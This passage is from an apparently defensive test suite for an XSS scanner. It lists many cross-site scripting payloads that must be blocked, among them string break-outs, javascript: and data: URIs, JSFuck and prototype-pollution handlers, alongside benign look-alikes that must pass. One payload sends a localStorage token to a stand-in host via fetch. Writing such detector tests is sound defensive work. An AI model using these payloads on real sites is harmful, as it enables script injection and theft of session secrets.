    '"-confirm(q) instanceof Object-"', 'alert(document.domain) after', 'eval(atob(name))//later', "prompt(document.cookie) returns",
    "confirm('q');//is shown", 'alert(msg) ;done', "alert('Saved!')<!--after", 'alert(a[0]) x', 'alert(x{) y', 'alert(`q`) y',
    "alert('it\\'s') y", 'eval(q(r(s(t)))) u', 'alert(x) 1', 'alert(x) in y', 'alert(x) in y.z w', 'alert(online) now', 'alert("javascript") now',
    'window.alert(x).then', 'alert(x),alert(y)', "document.cookie.split(';') returns", 'document.cookie.zz(q) is'];
  it.each(hits)('%s reports the sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it('spans the call up to its parenthesis, or the held name', () => {
    expect(d.scan("alert('q')", { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 6 });
    expect(d.scan('x alert(y) in z', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 2, length: 6 });
    expect(d.scan('window.alert(q)', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 12 });
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
});

describe('xss: javascript:void(0), the link that runs nothing, named in a sentence or closing its attribute', () => {
  // a space and words (with a sentence's punctuation) after it, or the attribute's quote right after it, is no finding
  // (round 8); alone at the end of the value, or with anything else after void( or void(0), it reports as before
  const clean = ['javascript:void(0) links in my old site break the back button', 'Is href="#" better than javascript:void(0) for a button?',
    '<a href="javascript:void(0)">Menu</a>', "<a href='javascript:void(0)' class=q>x</a>"];
  it.each(clean)('%s is allowed', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).not.toContain('xss.js-uri');
    expect(r.blocked).toBe(false);
  });
  const hits = ['javascript:void(0)', 'javascript:void(0);zz(1)', 'javascript:void(zz(1))', 'javascript:void(0)//', 'javascript:void(0),q', 'javascript:void(1) q',
    'javascript:void (0) q', 'javascript:void(0)x', 'javascript:void(0) q;r', 'javascript:void', 'javascript:void(0', 'javascript:void(0)%0aq'];
  it.each(hits)('%s reports the scheme', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-uri');
  });
  // what follows the quote is read as before: leaving a JS string, a handler
  it.each(['javascript:void(0)"-zz(1)-"', "javascript:void(0)';zz(1)//", 'javascript:void(0)" onclick="zz()'])('%s is blocked by what follows', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(true);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
});

describe('xss: a timer called with a name, and data:text/html, named in a sentence', () => {
  // setTimeout(save, 500) followed by a space and a word is held as alert(msg) is (round 8); a string, a template or the
  // end still report it. data:text/html followed by a space, a word and a space is a type named in prose (a data: URL
  // needs its ','); ',' ';' or anything else after the type or its next word (data:image/svg+xml with the '+' read as a
  // space), or the end, report it as before
  const clean = ['setTimeout(save, 500) runs twice when I double-click', 'setInterval(tick, 1000) drifts on mobile',
    'data:text/html is blocked by Chrome for top-level navigation', 'Why is data:image/svg blurry here?'];
  it.each(clean)('%s is allowed', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).not.toContain('xss.js-sink');
    expect(ruleIds(r)).not.toContain('xss.js-uri');
    expect(r.blocked).toBe(false);
  });
  const sinks = ['setTimeout(name)', 'setTimeout(name, 1)//x', "setTimeout('zz(1)') now", 'setTimeout(`zz`) now', 'setTimeout(name) in q', 'setTimeout(location.hash) x'];
  it.each(sinks)('%s reports the sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  const uris = ['data:text/html', 'data:text/html,<b>', 'data:text/html;base64,AAAA', 'data:text/html <svg>', 'data:image/svg+xml,<svg>', 'data:image/svg+xml;base64,AAAA',
    'data:image/svg+xml', 'data:text/html 1', 'data:text/html is'];
  it.each(uris)('%s reports the data: URI', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-uri');
  });
  it('spans the timer call and the data: type as before', () => {
    expect(d.scan('setTimeout(name)', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 15 });
    expect(d.scan('q data:image/svg+xml,<svg>', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-uri')).toMatchObject({ offset: 2, length: 14 });
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...sinks, ...uris]); });
});

describe('xss: an on* query parameter glued to ? or & is no attribute (paranoia 2)', () => {
  // ?online=1&onsale=true: no browser reads an attribute glued to '?' or '&', so any-tag leaves it (round 8); after a
  // space, a quote or '/', inside a tag, or a handler name the lists know, it reports as before
  let d2: Detector;
  beforeAll(async () => { d2 = await detector({ paranoia: 2 }); });
  afterAll(async () => { await d2.close(); });
  const clean = ['?online=1&onsale=true', 'https://shop.q.test/list?onsale=1&sort=price', 'utm_source=q&onsite=1'];
  it.each(clean)('%s is allowed at paranoia 2', (input) => {
    const r = d2.scan(input, { context: 'query' });
    expect(ruleIds(r)).not.toContain('xss.any-tag');
    expect(r.blocked).toBe(false);
  });
  const hits: Array<[string, string]> = [['q onsale=1', 'xss.event-handler'], ['"onsale=1', 'xss.event-handler'], ['<a href=x?a&onsale=1>', 'xss.any-tag'], ['?q=1&onerror=zz(1)', 'xss.event-handler'],
    ['&onpointerenter=zz', 'xss.event-handler'], ['onsale=1', 'xss.any-tag']];
  it.each(hits)('%s reports %s', (input, rule) => {
    expect(ruleIds(d2.scan(input, { context: 'query' }))).toContain(rule);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d2, [...clean, ...hits.map(([s]) => s)]); });
});

describe('xss: round 9, Function(name)() and an off-site target written with backslashes', () => {
  // Function(name)(): the code a name holds made into a function and called at once (a string argument reports at its
  // quote, as before); a name in a sentence (the Function(q) constructor) or a function written out is no call
  const clean = ['the Function(q) constructor returns a function', 'Function(q) is slow', 'function(q) { return q }', '(function(){})()',
    '<form action=/search>', '<form action="/a\\b">', '<div hx-get=/search hx-trigger=load>', '<form action=q\\\\r>', 'Function(q).length is 1', 'Function(q).toString()'];
  it.each(clean)('%s is allowed', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).not.toContain('xss.js-sink');
    expect(ruleIds(r)).not.toContain('xss.dangerous-tag');
    expect(r.blocked).toBe(false);
  });
  // a backslash is a slash in an http(s) address: \\host /\host \/host are //host
  const hits: Array<[string, string]> = [['Function(zz)()', 'xss.js-sink'], ['x=Function(q)(1)', 'xss.js-sink'], ['Function(q)``', 'xss.js-sink'],
    ['Function(q).call()', 'xss.js-sink'], ['Function(q).apply(null)', 'xss.js-sink'],
    ['<form action=\\\\q.test/r>', 'xss.dangerous-tag'], ['<form action="/\\q.test/r">', 'xss.dangerous-tag'],
    ['<form action=\\/q.test>', 'xss.dangerous-tag'], ['<p hx-get=\\\\q.test/r>', 'xss.dangerous-tag'], ['<p data-hx-post=/\\q.test>', 'xss.dangerous-tag']];
  it.each(hits)('%s reports %s', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
  });
  it('spans the call and the tag as before', () => {
    expect(d.scan('Function(zz)()', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 13 }); // (to the call's '(')
    expect(d.scan('<form action=\\\\q>', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.dangerous-tag')).toMatchObject({ offset: 0 });
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits.map(([s]) => s)]); });
});

describe('xss: a CSS word, or body alone, as a call\'s argument is a plain name (round 9 look-alikes)', () => {
  // eval(expression) in R evaluates it: expression and behavior start nothing of their own inside a JS call's argument;
  // the call is held as eval(msg) is, and reported as before at the end, with a sink inside or one level deeper
  const clean = ['eval(expression) in R evaluates the expression', 'confirm(behavior) shows it', 'eval(x, expression) is slow',
    'Is new Function(args, body) slower than a closure?', 'eval(body) is slow'];
  it.each(clean)('%s is allowed', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
  });
  const hits: Array<[string, string]> = [['eval(expression)', 'xss.js-sink'], ['eval(expression(zz(1)))', 'xss.js-sink'], ['eval(expression(alert(1))) q', 'xss.js-sink'],
    ['eval(expression, document.cookie) q', 'xss.js-sink'],
    ['eval(body)', 'xss.js-sink'], ['eval(body.innerHTML) q', 'xss.js-sink'], ['eval(document.body) q', 'xss.js-sink'], ['confirm(x.body) q', 'xss.js-sink'], ['new Function(body)()', 'xss.js-sink'], ['<p style=x:expression(zz(1))>', 'xss.css-expression']];
  it.each(hits)('%s reports %s', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits.map(([s]) => s)]); });
});

describe('xss: round 10 sweep, a sink or scheme right after "<", a call after leaving a string, two names after a scheme', () => {
  // '<' glued to a dialog, a global or a script scheme is no tag: '<alert(1)// compares in script after leaving a string,
  // <javascript:zz(1)> is a Markdown autolink; ';zz`x` calls zz with a template after leaving the string, and
  // ';location.zz( a method of location (a page property, .href, is read as before). A script scheme followed by two names with only a space between ("javascript: the good parts") is no script (a syntax error:
  // nothing in the value runs), so punctuation after them is prose; VBScript calls without parentheses (msgbox 1), so
  // vbscript: stays held.
  const clean = ['javascript: the good parts (2nd edition)', '"JavaScript: The Good Parts" by Crockford', 'javascript: the good parts; 5 stars',
    '<p>javascript: the good parts</p>', 'Re: javascript: the good parts!!! :)', '<data value="8">eight</data>', '<b>bold</b> <i>x</i>',
    "It's 'location.assign' we use", "Set 'location'.toUpperCase() please", 'Templates use <window.location> and <document.title> tokens'];
  it.each(clean)('%s is allowed', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
  });
  const hits: Array<[string, string]> = [["'<alert(1)//", 'xss.js-sink'], ['"<confirm`1`-"', 'xss.js-sink'], ["'<window['zz'](1)", 'xss.js-sink'],
    ['<javascript:zz(1)>', 'xss.js-uri'], ['<JaVaScRiPt:zz`1`>', 'xss.js-uri'], ['<data:text/html,<b>x</b>>', 'xss.js-uri'],
    ["';zz`1`//", 'xss.js-sink'], ['"-zz`x`-"', 'xss.js-sink'], ["';location.zz('//q.test')//", 'xss.js-breakout'], ["'-location.href='//q.test'-'", 'xss.js-sink'],
    ['javascript: void zz(1)', 'xss.js-uri'], ['javascript: new Image().src=1', 'xss.js-uri'], ['javascript: x in zz(1)', 'xss.js-uri'],
    ['javascript: zz (1)', 'xss.js-uri'], ['vbscript: msgbox 1 (2)', 'xss.js-uri'], ['javascript: a\nb\nzz(1)', 'xss.js-uri']];
  it.each(hits)('%s reports %s', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits.map(([s]) => s)]); });
});

describe('xss: markdown images with an empty alt text are no JSFuck', () => {
  // ![](url) glues a '(' to the ![] atom; JSFuck never calls an atom (![]() throws), so it does not count
  const clean = ['![](https://i.imgur.com/a.png)\n![](https://i.imgur.com/b.png)', 'Before: ![](before.png)\nAfter: ![](after.png)',
    '![](a.png) ![](b.png) ![](c.png)'];
  it.each(clean)('%s is allowed', (input) => {
    const r = d.scan(input, { context: 'json' });
    expect(ruleIds(r)).not.toContain('xss.js-obfuscation');
    expect(r.blocked).toBe(false);
  });
  // atoms glued to + [ ] ) still count, also after an image
  const hits = ['[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]', '![]+![]', '(![]+[])[+[]]', '![](x.png) (![]+[])[+!![]]', '![][![]]'];
  it.each(hits)('%s reports xss.js-obfuscation', (input) => {
    const r = d.scan(input, { context: 'json' });
    expect(ruleIds(r)).toContain('xss.js-obfuscation');
    expect(r.blocked).toBe(true);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits], 'json'); });
});

// Session 18 (red team rt-fp, repro 14): a name glued to "javascript:" then a space and a second name is a syntax error
// (two names in a row), so the URI runs nothing: a book title or a skills field; after a ',' the next item is read as after
// the ':' (JavaScript:React, Node). Each "stays clean" row was blocked before.
describe('xss: javascript: glued to a title', () => {
  const clean = ['JavaScript:The Definitive Guide', 'Learning JavaScript:ES2020 Edition', 'JavaScript:Understanding the Weird Parts',
    'JavaScript:Novice to Ninja', 'I love JavaScript:)', 'see javascript:]', 'JavaScript:React, Node', 'Skills: Python, JavaScript:Vue, SQL'];
  it.each(clean)('%s stays clean', (input) => {
    const r = d.scan(input, { context: 'form' });
    expect(ruleIds(r)).not.toContain('xss.js-uri');
    expect(r.blocked).toBe(false);
  });
  // a name alone runs (javascript:name renders window.name), a call or member after it, a call glued to a second name,
  // an operator word, and VBScript's call of a name with an argument
  const hits = ['javascript:name', 'javascript:top.alert(1)', 'javascript:alert(1)', 'javascript:a b(1)', 'javascript:x y;alert(1)',
    'javascript:x in alert(1)', 'vbscript:msgbox 1', 'JavaScript:Alert ', 'javascript:confirm`1`', 'javascript:x,alert(1)', 'javascript:x,name',
    'javascript:a,b,c(1)',
    // session 18 red team (rt-ex 03): a line break between the names is where JavaScript inserts a ';' (the URL keeps an
    // encoded %0A / %0D): top; alert(1) runs — only a real space is prose's
    'javascript:top%0Aalert%0A(1)', 'javascript:top%0Alocation%0A=name', '<a href="javascript:top%0Aalert%0A(1)">x</a>',
    'javascript:top\nalert\n(1)', 'javascript:top%0Dalert%0D(1)', 'javascript:top\r\nalert\r\n(1)', 'javascript:top%0Aconfirm%0A`1`',
    'javascript:top%0AsetTimeout%0A(name)', 'javascript:x%0Ay', 'JavaScript:The\nDefinitive Guide'];
  it.each(hits)('%s is a js-uri', (input) => {
    const r = d.scan(input, { context: 'form' });
    expect(ruleIds(r)).toContain('xss.js-uri');
    expect(r.blocked).toBe(true);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits], 'form'); });
});

// Session 18 (rt-fp repro 13): "(s)" glued to a dialog's name is English's plural marker (Manage your alert(s)); at the end
// of the value the call with s alone in its parentheses is released as a sentence's last word. Code after it still
// reports, as after any held call. The clean rows fail before.
describe('xss: a sink with the plural marker (s) ending the value', () => {
  const clean = ['Manage your alert(s)', 'Set price alert(s)', 'Pending confirm(s)', 'Set up eval(s)', 'your  alert(s)',
    'Configure email alert(s) for your account', 'your%20alert(s)'];
  it.each(clean)('%s stays clean', (input) => {
    const r = d.scan(input, { context: 'form' });
    expect(ruleIds(r)).not.toContain('xss.js-sink');
    expect(r.blocked).toBe(false);
  });
  const hits = ['alert(x)', 'alert(s', 'alert(s+document.cookie)', 'alert(s);alert(1)', "'-alert(s)-'", 'alert(s)//', 'alert(s);',
    'prompt(s)\nalert(1)', 'alert(s)x',
    // session 18 red team (rt-ex 05): released only after a word and a space — at the value's start, or after ; . , ( ) ' "
    // ':' or a line break (where JavaScript ends a statement) it is a call
    'alert(s)', 'eval(s)', '1;alert(s)', 'top.alert(s)', '(0,alert)(s)', 'javajavascript:script:alert(s)',
    '__proto__[tagName]=img&__proto__[src][]=x:&__proto__[onerror][]=alert(s)', 'x\nalert(s)', 'x %0Aalert(s)', "'alert(s)",
    '"alert(s)', 'x,alert(s)', ')alert(s)', 'x;eval(s)',
    // session 18 red team round 2 (rt-ex2 05): a JavaScript keyword operator before the name is no prose word — void,
    // typeof, return, await, delete, throw, yield, new, in, instanceof, case, else, do, of take an expression, so the sink runs
    'x;void alert(s)', 'x;typeof eval(s)', '1;return eval(s)', 'a;await eval(s)', 'x;delete eval(s)', 'x;throw eval(s)',
    'x;yield eval(s)', 'x;new alert(s)', 'a in eval(s)', 'a instanceof eval(s)', 'x;case eval(s)', 'x;else eval(s)',
    'x;do eval(s)', 'for(a of eval(s))',
    // known false positives since: "of" and "in" are English words too, and they end the sentence right before the
    // sink the way for (a of eval(s)) and a in eval(s) do — the scanner cannot tell the two apart
    'the number of alert(s)', 'notifications in alert(s)'];
  it.each(hits)('%s is a js-sink', (input) => {
    const r = d.scan(input, { context: 'form' });
    expect(ruleIds(r)).toContain('xss.js-sink');
    expect(r.blocked).toBe(true);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits], 'form'); });
});

// Session 18 (check set session18-sx): print() is the dialog a proof of concept calls where alert() is blocked (a
// cross-origin frame); called as a method of the window (top.print(), window.print(), self.print`1`) it is reported as
// window.open( is. The hits fail before; print named in prose, or as a plain call of a language's print, stays clean.
describe('xss: print called on the window', () => {
  const hits = ['"-top.print()-"', "'-window.print()-'", 'self.print`1`', 'parent.print()', "';frames.print();//"];
  it.each(hits)('%s is a js-sink', (input) => {
    const r = d.scan(input, { context: 'form' });
    expect(ruleIds(r)).toContain('xss.js-sink');
    expect(r.blocked).toBe(true);
  });
  const clean = ['Why does window.print open a dialog?', 'Use window.print() to print the page', 'top.print', 'Your print(s) are ready',
    "print('hello')", 'printf("%d", n);'];
  it.each(clean)('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'form' }).blocked).toBe(false);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits], 'form'); });
});

// Session 18 (rt-fp repro 13): "regular expression(s)" — the plural marker s alone in the parentheses of CSS's expression
// evaluates nothing but an undefined name; anything else in them, or the value cut off inside them, still reports. The
// clean rows fail before.
describe('xss: expression(s) is a plural', () => {
  const clean = ['regular expression(s)', 'We had a regular expression(s) workshop', 'Expression(s) of interest due Friday'];
  it.each(clean)('%s stays clean', (input) => {
    const r = d.scan(input, { context: 'form' });
    expect(ruleIds(r)).not.toContain('xss.css-expression');
    expect(r.blocked).toBe(false);
  });
  const hits = ['regular expression(regex)', 'expression(alert(1))', 'x:expression(alert(1))', 'expression(', 'expression(s', 'expression( s)',
    'expression(document.cookie)', 'expression(s1)'];
  it.each(hits)('%s is a css-expression', (input) => {
    const r = d.scan(input, { context: 'form' });
    expect(ruleIds(r)).toContain('xss.css-expression');
    expect(r.blocked).toBe(true);
  });
  it('spans the expression to its parenthesis', () => {
    const r = d.scan('x:expression(alert(1))', { context: 'form' });
    expect(r.threats.find((t) => t.ruleId === 'xss.css-expression')).toMatchObject({ offset: 2, length: 11 });
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits], 'form'); });
});

// Session 18 (check set session18-sx): a global's index lookup wrapped in parentheses and then called — (window['con'+'firm'])(1)
// — is the call window['x'](1) is. The hits fail before.
describe('xss: a parenthesized index lookup called', () => {
  const hits = ["'-(window['con'+'firm'])(1)-'", "(top['al'+'ert'])(1)", "(self['print'])()", "(globalThis['pro'+'mpt'])(1)"];
  it.each(hits)('%s is a js-sink', (input) => {
    const r = d.scan(input, { context: 'form' });
    expect(ruleIds(r)).toContain('xss.js-sink');
    expect(r.blocked).toBe(true);
  });
  const clean = ["(window['title'])", "see (window['name']) (1)", 'a[0]) (b)'];
  it.each(clean)('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'form' }).blocked).toBe(false);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits], 'form'); });
});

// Session 18 (rt-fp repro 06): Netscape's JavaScript entity runs the script between &{ and its '}'; an &{ that never closes
// holds none (generated passwords: X&{pKt9*). Reported at the '}' now, spanned to the '{' as before. The clean rows fail before.
describe('xss: a JavaScript entity needs its closing brace', () => {
  const clean = ['L2?kg3kX[&{pKt9*', '8IqF5&{o/x{GEoHg', 'F}{nL~9!9tD&{Jy9', 'a&{b'];
  it.each(clean)('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'form' }).blocked).toBe(false);
  });
  const hits = ['&{alert(1)};', '<br size="&{alert(7)}">', 'x=&{()}', '&{}', '&{a}{'];
  it.each(hits)('%s is a js-entity', (input) => {
    const r = d.scan(input, { context: 'form' });
    expect(ruleIds(r)).toContain('xss.js-entity');
    expect(r.blocked).toBe(true);
  });
  it('spans the entity to its opening brace', () => {
    const r = d.scan('x=&{()}', { context: 'form' });
    expect(r.threats.find((t) => t.ruleId === 'xss.js-entity')).toMatchObject({ offset: 3, length: 1 });
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits], 'form'); });
});

/**
 * A JavaScript-string break-out check (rt23 and session 21): each hit is a blocked xss.js-breakout in query, form and json
 * (a query's or form's '+' is a space: the attacker writes %2B), each clean row passes as written and as sent, and both give
 * the same findings split anywhere.
 */
function jsBreakoutCases(hits: string[], clean: string[]): void {
  const contexts = ['query', 'form', 'json'] as const;
  const asSent = (input: string, context: string) => (context === 'json' ? input : input.replace(/\+/g, '%2B'));
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a js-breakout', (input, context) => {
    const r = d.scan(asSent(input, context), { context });
    expect(ruleIds(r)).toContain('xss.js-breakout');
    expect(r.blocked).toBe(true);
  });
  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
    expect(d.scan(input, { context }).blocked).toBe(false);
    expect(d.scan(asSent(input, context), { context }).blocked).toBe(false);
  });
  it('gives the same findings split anywhere', () => {
    for (const c of contexts) expectSameWhenSplit(d, [...hits.map((h) => asSent(h, c)), ...clean], c);
  });
}

// Session 20 (red team rt23, repros 07 and 15): after a quote or backtick leaves a JS string (or '${' opens a template's
// expression), a module loaded from a computed specifier, location assigned in any spelling (spaced '=', an index, a
// destructuring, a member of any object, comments between), location's navigating methods handed on, location written by
// Object.assign / Reflect.set, Function built through Reflect or called through .call, and a stored secret read: each runs
// the attacker's script (window.name, the URL's fragment) in the page, confirmed in headless Chromium. ssjs.ts reads the
// value after the break-out to its end. In a query or form '+' is a space (' Object.assign(...) is a syntax error in the
// page), so there the payloads carry it as %2B. The hits fail before; the clean rows name the same words in prose, or in
// code that leaves no string.
describe('xss: navigation and module sinks after leaving a JS string (rt23)', () => {
  const hits = [
    // window.name (set by the attacker's <iframe name=...> or window.open)
    "';import(name)//", "'-import(name)-'", '"-import(name)-"', '${import(name)}', '${location=name}', '${location.assign(name)}',
    "';location = name//", "';[location]=[name]//", "';(location=name)//", "';document.defaultView.location=name//", "'/**/;location=name//",
    "'\n;location=name\n'", "';location['href']=name//", "';location.assign.call(location,name)//", "'-[name].forEach(location.assign,location)-'",
    "'+Object.assign(location,{href:name})+'", "'+Reflect.construct(Function,[name])()+'",
    // self-contained: a script URL built from pieces, a stored token sent away
    "';location = 'jav'+'ascript:'+'parent.document.title=1'//", "'+fetch('//e.test/?'+localStorage.token)+'",
    // code from the URL's fragment (never sent to the server)
    "';import(document.URL.split('#')[1])//", "';import(document.documentURI.split('#')[1])//", "';import((location+'').split('#')[1])//",
    "';location = decodeURI(document.URL.split('#')[1])//", "';[location]=[document.URL.split('#')[1]]//",
    // the same sinks spelled otherwise
    "';location/**/=name//", "';import (name)//", "';import(''+name)//", "';import(`${name}`)//", "'\nlocation=name\n'",
    "'\nx=1;location = name\n'", "'\nlocation = name\n'", "x'\nimport(name)\n'", "'/**/;with(location)href=name//",
    "${open(name,'_self')}", "'+open(name,'_self')+'", "';({location}={location:name})//", "'?import(name):'", "',location=name,'",
    "' in import(name)//", "'!=import(name)!='", "'-import(s)-'", "',`${location = name}`", "'+Reflect.set(location,'href',name)+'", "';(Function)(name)()//",
    "';Function.call(0,name)()//", "';x=sessionStorage['k']//", "`;location = name;`", "'});location = name//",
  ];
  const clean = [
    'Import (name) from file', 'Import(name) from file', 'location = Paris', 'set location = name of city', 'the \'old\' location = Paris',
    '"quoted"; then location (x)', "He said 'yes'; location: Paris", "a 'b' - location = c", '${location}', '`${import.meta.url}`',
    "x = 'a'; if (location == b) go()", "'x'; a.import (y)", "it's -5; location=3", "rock'n'roll; location = home",
    "He said 'hi'\nLocation = Paris", "Say 'hi'\nimport (name) from file", "';import('./m.js')//", "';import('./locales/'+lang)//",
    "The `mergeArray`-Function needs to return the merging function, which accepts", "(like `*/*` or `*/json`). If a function, the `type`",
    "'x'; location => y", 'Click "Save"; the location is kept', "'hi'\nLocation = Paris", "Menu 'File'-open", "'a'-b, xhr.open(x)", "Did he say 'yes'? Location = Paris", "'a', 'b', location = here",
    "the word 'cat' in English", "the word 'cat' in import(s) and export(s)", "ws.on('open', function open() {",
  ];
  jsBreakoutCases(hits, clean);
  it('spans the finding from the break-out to the sink', () => {
    const input = 'q=1 ${location=name}';
    const r = d.scan(input, { context: 'json' });
    expect(r.threats.find((t) => t.ruleId === 'xss.js-breakout')).toMatchObject({ offset: 4, length: 15 });
  });
});

// session 21: a // line comment between location and '=' (skipped to its line break, the assignment's progress kept), a //
// comment after the break-out quote (its line break then leaves the string as one after the quote does), and a global's
// member named by a string built from pieces and assigned (window['loc'+'ation']=name: the pieces hide the name). Each
// runs window.name's script in the page as ';location=name// does. The hits fail before; the clean rows keep a '//' inside
// an index or a string, a comparison, and prose.
describe('xss: line comments and computed global members after leaving a JS string (session 21)', () => {
  const hits = [
    "';location//x\n=name//", "';location//x\n= name//", "';location.href//c\n=name//", "'//x\n;location=name//", "'//x\nlocation=name//",
    "';window['loc'+'ation']=name//", "';self['loc'+'ation']=name//", "';top[\"loc\"+\"ation\"] = name//", "';document['loc'+'ation']=name//",
    "';window['loc'+'ation']//c\n=name//", "';parent[`loc`+`ation`]=name//",
    // (a '//' inside an index or a string comments nothing out: what follows is still read)
    "';location['//x']=name//", "';x='http://a';location=name//",
  ];
  const clean = [
    "'//cdn.example/x.js'", "it's//fine\nlocation = Paris", "window['a'+'b'] is an index", "';window['x'+'y']==name//",
    "see 'a'//b\nLocation = Paris", "';window['a']//x\n", "the window['a'+'b'] = c form", "';location['//x']",
  ];
  jsBreakoutCases(hits, clean);
});

// session 21 (held-out stand-in hs24): PortSwigger calls print() where alert is blocked in a cross-origin frame. After the
// string is left with '+' or a '${' is opened, a bare call of the window's print, open or fetch runs in the page; any other
// name called there is how code builds a string ('Total: '+total()+'!', `${fmt(d)}`), so only these count (after - * ;
// | & ^ xss.ts reports any call). The hits fail before; the clean rows keep concatenation, members and prose.
describe("xss: the window's print, open or fetch called after '+' or in '${' (session 21)", () => {
  const hits = [
    "'+print()+'", '"+print()+"', '`+print()+`', '${print()}', "'+print`1`+'", "x'+print()//", '${print`1`}',
    "'+fetch('//x.example')+'", "${fetch('//x.example/'+1)}", "'%print()%'",
  ];
  const contexts = ['query', 'form', 'json'] as const;
  // (a query's or form's '+' is a space: the attacker writes %2B; '%' alone is written %25)
  const asSent = (input: string, context: string) =>
    context === 'json' ? input : input.replace(/%/g, '%25').replace(/\+/g, '%2B');
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a js-breakout', (input, context) => {
    const r = d.scan(asSent(input, context), { context });
    expect(ruleIds(r)).toContain('xss.js-breakout');
    expect(r.blocked).toBe(true);
  });
  const clean = [
    "'+x+'", "press 'Ctrl'+'C' to copy", "'Total: '+total()+' items'", '`Hello ${fmt(d)}`', '`${name}`', "print('hello')",
    "doc'+w.print()+'", "Use 'print' + print() here", '"Page "+page.print()+"!"', "'a'+xhr.open('GET',u)+'", "the 'print' menu",
    "it's print(x) time", '`${items.map((i) => i.name).join(", ")}`', 'a value other than `document`, for example a `fetch()` call',
    'This will cause `new Request()`, and `fetch` to throw', "Is it 'print'? print() opens the dialog",
  ];
  // (clean as written and with every '+' sent as %2B: neither reading is an attack)
  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
    expect(d.scan(input, { context }).blocked).toBe(false);
    expect(d.scan(asSent(input, context), { context }).blocked).toBe(false);
  });
  it('spans the finding from the break-out to the call', () => {
    const r = d.scan("q='+print()+'", { context: 'json' });
    expect(r.threats.find((t) => t.ruleId === 'xss.js-breakout')).toMatchObject({ offset: 2, length: 8 }); // (to the call's '(')
  });
  it('gives the same findings split anywhere', () => {
    for (const c of contexts) expectSameWhenSplit(d, [...hits.map((h) => asSent(h, c)), ...clean], c);
  });
});

// session 21 (red team rtd24 17): the value sits inside a string of one kind, so only the first quote of that kind can
// leave it; a later one opens or closes a string of the value's own code. Ordinary JS pasted into a form or JSON (a JSONP
// callback registered, per-app globals) closed its own string before window['a' + b] = and was blocked. The clean rows
// fail before. The hits keep the quotes that open nothing to the page: one escaped by a backslash, one that only the
// guard's decoding makes (a JS escape, an entity, a full-width form), and a quote of another kind.
describe('xss: a quote that closes a string the value opened does not leave the page string (session 21)', () => {
  const clean = [
    "var id = 'cb1';\nwindow['jsonp_' + id] = function(d){};", "const name = 'app';\nwindow['__' + name + '_state'] = state;",
    "const k = 'a'; window['my' + k] = 1;", "a = 'b'; self['x'+'y'] = z; // ok", "name = 'x';\ndocument['title' + ''] = 'y' // comment",
    "var u = \"/api\"; window[\"cb_\" + n] = f;", "x = `a`; top[`k` + i] = 1", "I don't know; location = home", "s = ''; location = here",
  ];
  const contexts = ['query', 'form', 'json'] as const;
  // (a browser's form encoding sends ' as %27 and + as %2B: the same quotes as the application reads them)
  const asForm = (input: string) => encodeURIComponent(input).replace(/'/g, '%27');
  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
    expect(d.scan(input, { context }).blocked).toBe(false);
    if (context !== 'json') expect(d.scan(asForm(input), { context }).blocked).toBe(false);
  });
  const hits = [
    "it\\'s';location=name//", "\\x27x';location=name//", "&#39;x';location=name//", "\uff07x';location=name//",
    "say \"hi\"';location=name//", "a'b\";location=name//",
  ];
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a js-breakout', (input, context) => {
